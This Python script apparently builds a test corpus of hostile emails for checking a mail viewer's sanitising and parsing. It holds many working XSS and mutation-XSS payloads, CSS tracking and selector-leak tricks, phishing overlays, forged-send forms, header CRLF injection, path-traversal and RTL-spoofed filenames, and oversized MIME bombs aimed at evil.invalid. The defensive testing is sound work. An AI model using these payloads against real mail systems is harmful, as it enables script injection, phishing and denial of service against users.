#!/usr/bin/env python3
"""hostile.py - mail that wants to run, to load, to lead away, to be too much, or to be misread

    hostile.py FOLDER     writes each letter as FOLDER/NAME.eml, to look at it

CORPUS is {name: Hostile}. Everything that would run calls or writes the word "pwned"; everything that
would load something asks evil.invalid for it. A letter's octets are made when they are asked for,
the large ones are some 10 MB.
"""

import base64
import pathlib
import sys

PWN = "window.top.__pwned=1;window.__pwned=1;document.title='pwned';alert('pwned')"
EVIL = "http://evil.invalid"
SCRIPT = f"<script>{PWN}</script>"


class Hostile:
    """One letter. octets() makes it. has_html: a browser shows a page of it.
    huge: it may be refused for its size or complexity, by SMTP or by the pages."""

    def __init__(self, name, make, has_html=False, huge=False):
        self.name, self.make, self.has_html, self.huge = name, make, has_html, huge

    def octets(self):
        octets = self.make()
        return octets if octets.endswith(b"\r\n") else octets + b"\r\n"


CORPUS = {}


def add(name, make, **more):
    assert name not in CORPUS, name
    CORPUS[name] = Hostile(name, make if callable(make) else lambda: make, **more)


def head(subject="hostile", *lines, sender="evil@evil.invalid", to="victim@x.test"):
    """The header of a letter, MIME-Version and the empty line included."""
    rows = [f"From: {sender}", f"To: {to}", f"Subject: {subject}", "MIME-Version: 1.0", *lines, "", ""]
    return "\r\n".join(rows).encode("utf-8", "surrogateescape")


def page(html, kind="text/html; charset=utf-8"):
    """A letter that is one page."""
    octets = html.encode("utf-8", "surrogateescape") if isinstance(html, str) else html
    return head("hostile", f"Content-Type: {kind}", "Content-Transfer-Encoding: base64") + wrap(octets)


def wrap(octets):
    return base64.encodebytes(octets).replace(b"\n", b"\r\n")


def multipart(*parts, kind="mixed", subject="hostile", boundary="b"):
    """A letter of these parts: octets, header and empty line included."""
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    return head(subject, f'Content-Type: multipart/{kind}; boundary="{boundary}"') + body + f"--{boundary}--\r\n".encode()


def part(kind, octets, *lines):
    if isinstance(octets, str):
        octets = octets.encode()
    rows = [f"Content-Type: {kind}", "Content-Transfer-Encoding: base64", *lines, "", ""]
    return "\r\n".join(rows).encode("utf-8", "surrogateescape") + wrap(octets)


TEXT = part("text/plain", "the text\r\n")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}">{SCRIPT}<image href="{EVIL}/svg.png"/></svg>'

# ---- pages that want to run something

RUNNING = {
    "script": SCRIPT,
    "script-src": f'<script src="{EVIL}/x.js"></script><script src="/ui/none.js"></script><script type=module>{PWN}</script>',
    "script-broken": f'<scr<script>ipt>{PWN}</script><script/xss>{PWN}</script ><SCRIPT\t>{PWN}</SCRIPT>',
    "script-half": f"<script>{PWN}//",
    "script-nested-noscript": f'<noscript><p title="</noscript>{SCRIPT}"></noscript>',
    "script-in-svg": f"<svg><script>{PWN}</script><script href='{EVIL}/s.js'/></svg>",
    "script-in-mathml": f"<math><mtext><script>{PWN}</script></mtext><maction actiontype='statusline' xlink:href='javascript:{PWN}'>x</maction></math>",
    "handlers": "".join(f'<{tag} {event}="{PWN}" {more}>x</{tag}>' for tag, event, more in (
        ("img", "onerror", "src=x"), ("body", "onload", ""), ("svg", "onload", ""), ("input", "onfocus", "autofocus"),
        ("details", "ontoggle", "open"), ("video", "onerror", "src=x"), ("audio", "onerror", "src=x"), ("marquee", "onstart", ""),
        ("iframe", "onload", "srcdoc=x"), ("object", "onerror", "data=x"), ("style", "onload", ""), ("select", "onfocus", "autofocus"),
        ("p", "onanimationstart", "style='animation:x 1s'"), ("link", "onload", "rel=stylesheet href='data:text/css,'"))),
    "handler-forms": f'<img src=x oNeRrOr={PWN.replace(" ", "")}><img/src=x/onerror=alert(/pwned/)><img src=x onerror\n=\n"{PWN}">'
                     f'<img src="x"onerror="{PWN}"><img src=x onerror=&#97;lert(&#39;pwned&#39;)><a href=# onclick="{PWN}">click</a>',
    "javascript-urls": f'<a href="javascript:{PWN}">a</a><a href=" jAvAsCrIpT:{PWN}">b</a><a href="java&#10;script:{PWN}">c</a>'
                       f'<a href="java&Tab;script:{PWN}">d</a><iframe src="javascript:{PWN}"></iframe><form action="javascript:{PWN}">'
                       f'<button>e</button></form><area href="javascript:{PWN}"><img src="javascript:{PWN}"><body background="javascript:{PWN}">',
    "vbscript-url": '<a href="vbscript:msgbox(1)">a</a><a href="&#1;javascript:alert(\'pwned\')">b</a><a href="view-source:javascript:1">c</a>',
    "data-urls": f'<a href="data:text/html,{SCRIPT}">a</a><iframe src="data:text/html,{SCRIPT}"></iframe>'
                 f'<object data="data:text/html,{SCRIPT}"></object><embed src="data:text/html,{SCRIPT}">'
                 f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">'
                 f'<iframe src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"></iframe>',
    "svg-use": f'<svg><use href="data:image/svg+xml,{SVG}#x"/><animate attributeName=href values=javascript:alert(1)/>'
               f'<a><set attributeName="xlink:href" to="javascript:{PWN}"/><text y=20>x</text></a><foreignObject>{SCRIPT}</foreignObject></svg>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{PWN}&lt;/script&gt;"></iframe><iframe srcdoc=\'<img src=x onerror="{PWN}">\'></iframe>',
    "frames": f'<iframe src="{EVIL}/f"></iframe><frameset><frame src="{EVIL}/g"></frameset><iframe src="/"></iframe><iframe src="/api/v1/messages"></iframe>'
              f'<portal src="{EVIL}/p"></portal><fencedframe src="{EVIL}/ff"></fencedframe>',
    "objects": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf"><applet code="x" archive="{EVIL}/a.jar"></applet>'
               f'<object type="text/html" data="{EVIL}/o.html"></object><object classid="clsid:1" codebase="{EVIL}/c.cab"></object>',
    "opener": f"<script>window.opener.location='{EVIL}/';parent.location='{EVIL}/';top.location='{EVIL}/';parent.postMessage('pwned','*')</script>"
              f'<a href="{EVIL}/" target="_blank" rel="opener">x</a>',
    "comment-end": f'<!--><img src=x onerror="{PWN}">--><!--[if gte IE 4]>{SCRIPT}<![endif]--><!---!>{SCRIPT}-->',
    "frame-escape": f'</iframe></body></html>{SCRIPT}<iframe>"></iframe>{SCRIPT}\'></iframe>&quot;&gt;{SCRIPT}',
    "template-escape": f"</template>{SCRIPT}</textarea>{SCRIPT}</title>{SCRIPT}</style>{SCRIPT}</xmp>{SCRIPT}<plaintext>{SCRIPT}",
    "mxss-style": f'<svg></p><style><a id="</style><img src=1 onerror={PWN.replace(" ", "")}>">',
    "mxss-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    "mxss-form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{PWN}">',
    "mxss-noscript": f'<noscript><style></noscript><img src=x onerror="{PWN}"></style>',
    "mxss-title": f'<svg><title><style><img title="</style><img src=x onerror=\'{PWN}\'>"></title></svg>',
    "mxss-cdata": f'<svg><![CDATA[><img src=x onerror="{PWN}">]]></svg><?xml-stylesheet href="javascript:{PWN}"?>',
    "mxss-attributes": f'<a title="&lt;/a&gt;&lt;script&gt;{PWN}&lt;/script&gt;" href="#">`"\'><img src=x onerror={PWN}></a><img alt="``onerror={PWN}" src=x>',
    "clobber": '<form id=document><input name=cookie><input name=body></form><img name=getElementById><a id=location href="javascript:alert(\'pwned\')">x</a>'
               '<a id=__proto__></a><form name=fetch></form><iframe name=customElements></iframe>',
    "custom-elements": f'<postern-app src="{EVIL}/x">{SCRIPT}</postern-app><x-message onclick="{PWN}"></x-message><slot name="x"></slot>',
    "shadow": f'<div><template shadowrootmode="open"><script>{PWN}</script><img src=x onerror="{PWN}"></template></div>',
    "import-map": f'<script type="importmap">{{"imports":{{"/ui/app.js":"{EVIL}/x.js"}}}}</script><script type="speculationrules">'
                  f'{{"prerender":[{{"source":"list","urls":["{EVIL}/sr"]}}]}}</script>',
    "worker": f"<script>new Worker('data:text/javascript,1');navigator.serviceWorker.register('/sw.js');fetch('{EVIL}/fetch');"
              f"new WebSocket('ws://evil.invalid/');navigator.sendBeacon('{EVIL}/beacon');new EventSource('{EVIL}/es')</script>",
}

# ---- pages that want to load something, or to tell that they were read

LOADING = {
    "img": f'<img src="{EVIL}/a.png"><img src="//evil.invalid/b.png"><img src="https://evil.invalid/c.png"><image src="{EVIL}/d.png">'
           f'<input type=image src="{EVIL}/e.png"><img src="\\\\evil.invalid\\f.png"><img src="http:evil.invalid/g.png"><img src=" {EVIL}/h.png">',
    "img-own": '<img src="/api/v1/message/latest"><img src="/view/latest.html"><img src="/api/v1/search?query=a"><img src="/?x=1">',
    "srcset": f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x" src="x"><picture><source srcset="{EVIL}/3.png"><img src=x></picture>'
              f'<link rel=preload as=image imagesrcset="{EVIL}/4.png 1x">',
    "lazy": f'<img loading=lazy src="{EVIL}/l.png"><iframe loading=lazy src="{EVIL}/l.html"></iframe>',
    "background": f'<body background="{EVIL}/bg.png"><table background="{EVIL}/t.png"><tr><td background="{EVIL}/td.png">x</td></tr></table>',
    "media": f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>'
             f'<video autoplay><source src="{EVIL}/s.mp4"><track default src="{EVIL}/t.vtt"></video>',
    "links": f'<link rel=stylesheet href="{EVIL}/s.css"><link rel=icon href="{EVIL}/i.ico"><link rel=preload as=script href="{EVIL}/p.js">'
             f'<link rel=prefetch href="{EVIL}/pf"><link rel=dns-prefetch href="//dns.evil.invalid"><link rel=preconnect href="{EVIL}">'
             f'<link rel=prerender href="{EVIL}/pr"><link rel=modulepreload href="{EVIL}/m.js"><link rel=manifest href="{EVIL}/m.json">'
             f'<link rel=import href="{EVIL}/i.html"><link rel=alternate href="{EVIL}/alt" type=application/rss+xml>',
    "dns": f'<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://leak.evil.invalid/">x</a><a href="{EVIL}/" ping="{EVIL}/ping">y</a>',
    "css-import": f'<style>@import url("{EVIL}/i.css");@import "{EVIL}/j.css" screen;@im\\port url({EVIL}/k.css);</style>',
    "css-url": f'<style>body{{background:url({EVIL}/b.png)}}li{{list-style:url("{EVIL}/l.png")}}p{{cursor:url({EVIL}/c.cur),auto}}'
               f'p:before{{content:url({EVIL}/ct.png)}}div{{border-image:url({EVIL}/bi.png) 1;mask:url({EVIL}/m.svg);filter:url({EVIL}/f.svg#x)}}'
               f'a{{background:u\\72l({EVIL}/esc.png)}}@media screen{{b{{background:image-set("{EVIL}/is.png" 1x)}}}}</style><ul><li>x</ul><p>x<div>x</div><a>x</a><b>x</b>',
    "css-inline": f'<p style="background:url({EVIL}/1.png)">x</p><p style="background:url(&quot;{EVIL}/2.png&quot;)">x</p>'
                  f'<p style="--x:url({EVIL}/3.png);background:var(--x)">x</p><p style="background-image:\\75\\72\\6C({EVIL}/4.png)">x</p>',
    "css-font": f'<style>@font-face{{font-family:x;src:url({EVIL}/x.woff)}}*{{font-family:x}}</style>text',
    "css-expression": f'<p style="width:expression({PWN})">x</p><style>*{{behavior:url({EVIL}/b.htc);-moz-binding:url({EVIL}/b.xml#x)}}</style>',
    "css-selectors": f'<style>input[value^="a"]{{background:url({EVIL}/a)}}html:has(iframe){{background:url({EVIL}/has)}}a:visited{{background:url({EVIL}/v)}}</style><input value=abc>',
    "css-overlay": f'<div style="position:fixed;inset:0;z-index:2147483647;background:white"><a href="{EVIL}/login">Your session ended: log in</a></div>'
                   '<style>html,body{position:absolute;width:9999999px;height:9999999px;margin:-5000px}</style>',
    "css-broken": f"<style>a{{color:red</style><p style=\"color:red;}}</style>{SCRIPT}\">x</p><style>/* </style>{SCRIPT} */</style>",
    "css-heavy": "<style>" + "".join(f".a{i}>*:nth-child({i}n+1):not(:has(.b{i})) ~ *{{color:red}}" for i in range(2000)) + "</style>" + "<div>" * 200,
    "svg-images": f'<svg><image href="{EVIL}/i.png"/><image xlink:href="{EVIL}/j.png"/><use href="{EVIL}/u.svg#x"/><feImage href="{EVIL}/fe.png"/></svg>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><meta http-equiv=refresh content="0; url=javascript:{PWN}">'
                    f'<meta http-equiv="refresh" content="0;url=/api/v1/info">',
    "meta-other": '<meta http-equiv="Set-Cookie" content="a=pwned"><meta http-equiv="Content-Security-Policy" content="default-src *">'
                  '<meta name="referrer" content="unsafe-url"><meta charset="utf-7"><meta name=viewport content="width=1">',
    "base": f'<base href="{EVIL}/" target="_top"><img src="relative.png"><a href="x">x</a><link rel=stylesheet href="s.css"><form action="f"><button>go</button></form>',
    "forms": f'<form action="{EVIL}/f" method=post><input name=password type=password><button>Log in</button></form>'
             f'<form><button formaction="{EVIL}/fa">a</button><input type=submit formaction="javascript:{PWN}" value=b></form>'
             '<form action="/api/v1/messages" method=post><button>delete</button></form><form action="/api/v1/send" method=post enctype=text/plain>'
             '<input name=\'{"From":{"Email":"a@x.test"},"To":[{"Email":"b@x.test"}],"Subject":"forged","x":"\' value=\'"}\'><button>send</button></form>'
             f'<input form=f1 autofocus><form id=f1 action="{EVIL}/auto" onsubmit="{PWN}"></form>',
    "targets": f'<a href="{EVIL}/t" target="_top">top</a><a href="{EVIL}/p" target="_parent">parent</a><a href="{EVIL}/s">self</a>'
               f'<a href="/api/v1/info" target=_top>own</a><area href="{EVIL}/area" target="_top"><a href="{EVIL}/d" download>d</a>',
    "tracking": f'<img src="{EVIL}/open.gif?u=victim" width=1 height=1><bgsound src="{EVIL}/b.wav"><img dynsrc="{EVIL}/d.avi" lowsrc="{EVIL}/l.gif">',
    "cid-absent": '<img src="cid:nothing"><img src="cid:../../../../etc/passwd"><img src="cid:%2e%2e%2fx"><img src="mid:1@x"><img src="cid:"><a href="cid:x">x</a>',
}

for name, html in {**RUNNING, **LOADING}.items():
    add(f"html-{name}", page(f"<html><body><p>Hello</p>{html}<p>end</p></body></html>"), has_html=True)

# ---- cid: that leads to something else than a picture

CID_HTML = '<html><body><img src="cid:a"><iframe src="cid:a"></iframe><a href="cid:a">x</a><object data="cid:a"></object><embed src="cid:a"><link rel=stylesheet href="cid:a">'
for name, kind, octets in (("page", "text/html", f"<html>{SCRIPT}</html>"), ("svg", "image/svg+xml", SVG), ("xml", "text/xml", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{PWN}</x:script>"),
                           ("css", "text/css", f"@import '{EVIL}/x.css';"), ("script", "text/javascript", PWN), ("pdf", "application/pdf", "%PDF-1.4\n/JS (app.alert(1))"),
                           ("lying-picture", "image/png", f"<html>{SCRIPT}</html>")):
    add(f"cid-{name}", multipart(part("text/html", CID_HTML), part(kind, octets, "Content-ID: <a>", "Content-Disposition: inline"), kind="related"), has_html=True)
add("cid-names", multipart(part("text/html", "".join(f'<img src="cid:{c}">' for c in ("../../x", "&quot;onerror=alert(1) x=&quot;", "%3Cscript%3E", "a b", "x%0d%0aSet-Cookie:a=b"))),
                           *(part("image/png", "x", f"Content-ID: <{c}>") for c in ("../../x", '"onerror=alert(1) x="', SCRIPT, "a b", "x\\r\\n")), kind="related"), has_html=True)
add("cid-nested", multipart(part("text/html", '<img src="cid:outer">'), part("message/rfc822", page(f'<img src="cid:a">{SCRIPT}'), "Content-ID: <outer>"), kind="related"), has_html=True)
add("cid-many", multipart(part("text/html", '<img src="cid:a">' * 20000), part("image/png", "x", "Content-ID: <a>"), kind="related"), has_html=True, huge=True)
add("cid-same", multipart(part("text/html", '<img src="cid:a">'), *[part("image/png", f"{i}", "Content-ID: <a>") for i in range(200)], kind="related"), has_html=True)
add("cid-many-parts", lambda: multipart(part("text/html", '<img src="cid:a5">'), *[part("image/png", f"{i}", f"Content-ID: <a{i}>") for i in range(3000)], kind="related"), has_html=True, huge=True)

# ---- charsets

add("charset-utf-7", page(b"+ADw-script+AD4-alert('pwned')+ADw-/script+AD4-", "text/html; charset=utf-7"), has_html=True)
add("charset-utf-16", page(SCRIPT.encode("utf-16"), "text/html; charset=utf-16"), has_html=True)
add("charset-utf-16le-unsaid", page(SCRIPT.encode("utf-16-le"), "text/html"), has_html=True)
add("charset-unknown", page(f"<p>x</p>{SCRIPT}", 'text/html; charset="x-none"'), has_html=True)
add("charset-broken", page(b"<p>\xff\xfe\x80\xe3\x81</p><img src=x alt=\xe3\x82\"onerror=\"alert('pwned')\">", "text/html; charset=utf-8"), has_html=True)
add("charset-shift-jis-eats-quote", page(b'<p title="\x81"></p><img title="\x81" src="x onerror=alert(\'pwned\')//">', "text/html; charset=shift_jis"), has_html=True)
add("charset-iso-2022-escape", page(b"<img alt=\"\x1b$B\"><p>\x1b(B\" onerror=\"alert('pwned')\" src=x></p>", "text/html; charset=iso-2022-jp"), has_html=True)
add("charset-injection", page(f"<p>x{SCRIPT}", 'text/html; charset="utf-8\\"><script>alert(1)</script>"'), has_html=True)
add("charset-long", page("x", "text/html; charset=" + "x" * 900), has_html=True)
add("charset-iconv-names", page("x", "text/html; charset=utf-8//IGNORE//../../x"), has_html=True)
add("nul-in-page", page(b"<scr\0ipt>alert('pwned')</scr\0ipt><im\0g src=x onerror\0=\"alert('pwned')\">\0\0\0", "text/html"), has_html=True)
add("nul-in-text", head("nul \\x00", "Content-Type: text/plain", "Content-Transfer-Encoding: base64") + wrap(b"a\0b\0" * 1000))
add("nul-raw", b"From: a@x.test\r\nSubject: a\0b\r\nX-\0: y\r\n\r\nbody\0body\r\n")
add("controls-in-text", head("controls") + bytes(c for c in range(1, 32) if c not in (10, 13)) + b"\x7f\x80\x9b31m\xff\r\n")
add("rtl-and-zero-width", head("\u202egnp.exe \u200b\u200d\ufeff\u2066") + "\u202e abc \u2069".encode())
add("not-utf8-header", b"From: \xff\xfe <a@x.test>\r\nTo: \x80@x.test\r\nSubject: \xe3\x81\r\n\r\nx\r\n")

# ---- headers

add("subject-script", head(SCRIPT + "<img src=x onerror=alert('pwned')>") + b"x\r\n")
add("subject-encoded-script", head("=?utf-8?B?" + base64.b64encode(SCRIPT.encode()).decode() + "?= =?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dalert(1)=3E?=") + b"x\r\n")
add("subject-controls", head("=?utf-8?Q?a=0D=0ASet-Cookie:_pwned=3D1=00=1B[31m=7F=C2=85=E2=80=A8?=") + b"x\r\n")
add("subject-jis-unclosed", head("=?iso-2022-jp?B?GyRC?= =?iso-2022-jp?Q?=1B$B?= tail") + b"x\r\n")
add("subject-encoded-bombs", head(" ".join("=?utf-8?B?" + "A" * 60 + "?=" for _ in range(10)) + " =?x?x?x?= =?utf-8?B??= =?utf-8?Z?x?= =?=?=?") + b"x\r\n")
add("subject-long", lambda: head("x" * 900 + "".join("\r\n " + "y" * 900 for _ in range(2000))) + b"x\r\n", huge=True)
add("names-script", head("names", sender=f'"{SCRIPT}" <a@x.test>', to=f'"<img src=x onerror=alert(1)>" <b@x.test>, \'"><script>alert(1)</script>@x.test') + b"x\r\n")
add("from-colons", lambda: b"From: " + b":" * 900 + b"\r\n " * 1 + (b":" * 900 + b"\r\n ") * 110 + b"x\r\nSubject: colons\r\n\r\nx\r\n", huge=True)
add("from-99999-colons", lambda: b"From: " + b":" * 99999 + b"\r\nSubject: colons\r\n\r\nx\r\n", huge=True)
add("from-brackets", lambda: b"From: " + (b"<" * 900 + b"\r\n ") * 100 + b"x\r\nTo: " + (b"(" * 900 + b"\r\n ") * 100 + b"x\r\nCc: " + (b'"' * 900 + b"\r\n ") * 101 + b"x\r\n\r\nx\r\n", huge=True)
add("to-100000", lambda: head("many", to=",\r\n ".join(f"user{i}@x{i}.test" for i in range(100000))) + b"x\r\n", huge=True)
add("to-groups", lambda: head("groups", to="".join(f"g{i}:a{i}@x.test;,\r\n " for i in range(20000)) + "z@x.test") + b"x\r\n", huge=True)
add("to-groups-nested", lambda: b"To: " + (b"a:" * 450 + b"\r\n ") * 266 + b"x@x.test\r\nSubject: nested groups\r\n\r\nx\r\n", huge=True)
add("to-at-commas", lambda: b"To: " + (b"a@," * 300 + b"\r\n ") * 280 + b"x@x.test\r\nSubject: no domains\r\n\r\nx\r\n", huge=True)
add("forwarded-groups", lambda: b"Subject: forwarded\r\nContent-Type: message/rfc822\r\n\r\nTo: " + (b"a:" * 450 + b"\r\n ") * 266 + b"x@x.test\r\n\r\nx\r\n", huge=True)
add("from-commas", lambda: b"".join(name + b": " + (b"a," * 450 + b"\r\n ") * 280 + b"x@x.test\r\n" for name in (b"From", b"To", b"Cc", b"Bcc", b"Reply-To")) + b"Subject: commas\r\n\r\nx\r\n", huge=True)
add("headers-200000", lambda: b"Subject: many\r\n" + b"".join(b"X-H%d: %d\r\n" % (i, i) for i in range(200000)) + b"\r\nx\r\n", huge=True)
add("header-5mb", lambda: b"Subject: large\r\nX-Large: " + b"x" * 5_000_000 + b"\r\n\r\nx\r\n", huge=True)
add("header-5mb-folded", lambda: b"Subject: large\r\nX-Large: x" + (b"\r\n " + b"x" * 900) * 5550 + b"\r\n\r\nx\r\n", huge=True)
add("header-names", b"".join(b"%s: x\r\n" % name for name in (b"<script>alert(1)</script>", b"__proto__", b"constructor", b"a b", b"x" * 900, b"\xe3\x81\x82")) + b"Subject: names\r\n\r\nx\r\n")
add("headers-twice", b"".join(f"{name}: {value}\r\n".encode() for name in ("From", "To", "Cc", "Subject", "Date", "Message-ID", "Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Reply-To", "Return-Path", "List-Unsubscribe")
                             for value in ("text/html", SCRIPT, "1.0", "base64", "")) + b"\r\n" + SCRIPT.encode() + b"\r\n")
add("header-none-but-colon", b": x\r\n:\r\n\r\nx\r\n")
add("header-ends-in-body", b"Subject: no end")
add("message-id", b"Message-ID: <" + SCRIPT.encode() + b"@x>\r\nMessage-ID: <../../x>\r\nSubject: id\r\n\r\nx\r\n")
add("list-unsubscribe", head("list", f'List-Unsubscribe: <javascript:{PWN}>, <{EVIL}/"onclick="alert(1)>, <data:text/html,{SCRIPT}>', "List-Unsubscribe-Post: <script>") + b"x\r\n")
add("dates", b"Date: Thu, 99 Foo 99999999999 99:99:99 +9999\r\nSubject: date\r\n\r\nx\r\n")
add("date-far", b"Date: Fri, 31 Dec 999999 23:59:60 -9959\r\nSubject: date\r\n\r\nx\r\n")

# ---- MIME

add("mime-500000-parts", lambda: head("parts", "Content-Type: multipart/mixed; boundary=b") + b"--b\r\n\r\nx\r\n" * 500000 + b"--b--\r\n", huge=True)
add("mime-100000-attachments", lambda: head("parts", "Content-Type: multipart/mixed; boundary=b") + b"--b\r\nContent-Disposition: attachment; filename=a\r\n\r\nx\r\n" * 100000 + b"--b--\r\n", huge=True)
add("mime-1000-deep", lambda: b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(1000)) + b"Content-Type: text/plain\r\n\r\ndeep\r\n", huge=True)
add("mime-100000-deep", lambda: b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(100000)) + b"\r\ndeep\r\n", huge=True)
add("mime-same-boundary-deep", lambda: b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" * 20000 + b"--b--\r\n", huge=True)


def rfc822(depth):
    octets = page(f"<p>innermost{SCRIPT}</p>")
    return b"".join(head(f"level {i}", "Content-Type: message/rfc822") for i in range(depth)) + octets


add("rfc822-200-deep", lambda: rfc822(200))
add("rfc822-20000-deep", lambda: rfc822(20000), huge=True)
add("rfc822-base64", multipart(TEXT, part("message/rfc822", page(SCRIPT), f'Content-Disposition: attachment; filename="{SCRIPT}.eml"')))
add("mime-no-boundary", head("none", "Content-Type: multipart/mixed") + b"--\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.encode() + b"\r\n")
add("mime-empty-boundary", head("none", 'Content-Type: multipart/mixed; boundary=""') + b"--\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.encode() + b"\r\n----\r\n")
add("mime-long-boundary", head("none", f'Content-Type: multipart/mixed; boundary="{"b" * 800}"') + b"--" + b"b" * 800 + b"\r\n\r\nx\r\n")
add("mime-no-end", head("no end", "Content-Type: multipart/alternative; boundary=b") + b"--b\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.encode() + b"\r\n--b\r\nContent-Type: te", has_html=True)
add("mime-boundary-prefixes", head("prefix", 'Content-Type: multipart/mixed; boundary="a"') + (b"--a\r\nContent-Type: multipart/mixed; boundary=aa\r\n\r\n--aa\r\n\r\nx\r\n--aa--\r\n" * 50) + b"--a--\r\n")
add("mime-boundary-quadratic", lambda: head("q", 'Content-Type: multipart/mixed; boundary="--------"') + b"--------\r\n" * 300000, huge=True)
add("base64-garbage", head("garbage", "Content-Type: text/html", "Content-Transfer-Encoding: base64") + b"!!!!====AAAA@@@@\r\n=\r\nPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\r\n====" + bytes(range(128, 256)) + b"\r\n")
add("base64-long-line", lambda: head("long", "Content-Type: application/octet-stream; name=x", "Content-Transfer-Encoding: base64") + b"A" * 4_000_000 + b"\r\n", huge=True)
add("qp-garbage", head("garbage", "Content-Type: text/html", "Content-Transfer-Encoding: quoted-printable") + b"=ZZ=3=\r\n=0=00=FF=3Cscript=3Ealert('pwned')=3C/script=3E= \t\r\n==\r\n=\r\n", has_html=True)
add("cte-unknown", head("cte", "Content-Type: text/html", "Content-Transfer-Encoding: x-uuencode") + b"begin 644 x\r\n#PHNS\r\nend\r\n" + SCRIPT.encode() + b"\r\n", has_html=True)
add("type-crlf", multipart(TEXT, part('application/x; name="a"\r\n\tX-Pwned: 1', "x", 'Content-Disposition: attachment; filename="a\r\n\tSet-Cookie: pwned=1"')))
add("type-percent-crlf", multipart(TEXT, part("text/%0d%0aX-Pwned:%201", "x", "Content-Disposition: attachment; filename*=utf-8''a%0d%0aSet-Cookie:%20pwned=1%22;x=%00")))
add("type-wildcard", multipart(TEXT, *(part(kind, f"<html>{SCRIPT}", "Content-Disposition: inline; filename=x") for kind in (
    "*/*", "text/*", "", "text", "/", "text/", "/html", "text/html/html", "text/ht\tml", "TEXT/HTML", "text/html;", "text/html ;charset=utf-8", "application/xhtml+xml",
    "image/svg+xml", "text/xml", "application/xml", "text/xsl", "application/rss+xml", "application/pdf", "text/javascript", "application/x-shockwave-flash",
    "message/rfc822", "multipart/related", "multipart/x-mixed-replace", "application/mathml+xml", "text/cache-manifest", "application/wasm", "text/vtt", "application/json",
    "text/html,image/png", "image/png,text/html", "x" * 300 + "/html", "application/octet-stream", "unknown/unknown", "text/plain"))))
add("attached-pages", multipart(TEXT, *(part(kind, octets, f'Content-Disposition: attachment; filename="{name}"') for kind, octets, name in (
    ("text/html", f"<html>{SCRIPT}", "a.html"), ("application/octet-stream", f"<html>{SCRIPT}", "b.html"), ("text/plain", f"<html>{SCRIPT}", "c.html"),
    ("image/png", SVG, "d.svg"), ("image/svg+xml", SVG, "e.svg"), ("application/pdf", "%PDF-1.4", "f.pdf"), ("text/plain", f"<html>{SCRIPT}", "g.txt")))))

NAMES = {
    "traversal": "../../../../etc/passwd", "traversal-windows": "..\\..\\windows\\system32\\x.dll", "absolute": "/etc/passwd", "drive": "C:\\x.exe",
    "dots": "..", "empty": "", "blank": "   ", "rtl": "invoice\u202efdp.exe", "script": SCRIPT, "quotes": "a\\\"b'c`d.txt", "semicolon": "a;b=c; filename=evil.html",
    "percent": "%2e%2e%2f%00.html", "japanese": "日本語" * 60 + ".txt", "controls": "a\x01\x1b[31m\x7f.txt", "colon": "a:b*c?d|e<f>.txt", "device": "CON.txt",
    "trailing-dot": "x.html. ", "emoji": "\U0001f468\u200d\U0001f469.png", "surrogate": "\udce3\udc81.txt", "url": "http://evil.invalid/x.html", "long": "n" * 900 + ".txt",
}
for name, filename in NAMES.items():
    escaped = filename.replace("\\", "\\\\").replace('"', '\\"') if name != "quotes" else filename
    add(f"name-{name}", multipart(TEXT, part("application/octet-stream", "x", f'Content-Disposition: attachment;\r\n filename="{escaped}"'), part(f'text/html;\r\n name="{escaped}"', SCRIPT)))
add("name-crlf-encoded", multipart(TEXT, *(part("text/plain", "x", line) for line in (
    "Content-Disposition: attachment; filename*=utf-8''a%0D%0AX-Pwned:%201", "Content-Disposition: attachment; filename=\"=?utf-8?B?" + base64.b64encode(b"a\r\nX-Pwned: 1").decode() + "?=\"",
    "Content-Disposition: attachment; filename*0*=utf-8''a%0D; filename*1*=%0AX-Pwned:%201", "Content-Disposition: attachment; filename*=utf-8''a%00b", "Content-Disposition: attachment; filename*=x''%ff%fe",
    "Content-Disposition: attachment\r\n\t;X-Pwned=1; filename=\"a\"", "Content-Disposition: <script>alert(1)</script>; filename=a"))))
add("name-very-long", lambda: multipart(TEXT, part("text/plain", "x", "Content-Disposition: attachment" + "".join(f";\r\n filename*{i}=\"{'n' * 900}\"" for i in range(2000)))), huge=True)
add("name-10000-parameters", lambda: multipart(TEXT, part("text/plain", "x", "Content-Disposition: attachment" + "".join(f";\r\n p{i}=\"v\"" for i in range(10000)) + "; filename=a")), huge=True)
add("name-continuations-backwards", lambda: multipart(TEXT, part("text/plain", "x", "Content-Disposition: attachment" + "".join(f";\r\n filename*{i}=a" for i in range(9999, -1, -1)))), huge=True)

# ---- kinds of mail with a meaning of their own

add("smime-signed", multipart(part("text/html", f"<p>signed</p>{SCRIPT}"), part("application/pkcs7-signature; name=smime.p7s", b"\x30\x82\xff\xff" * 50, "Content-Disposition: attachment; filename=smime.p7s"), kind="signed"), has_html=True)
add("smime-enveloped", head("enveloped", "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename=smime.p7m") + wrap(b"\x30\x80\xff" * 500))
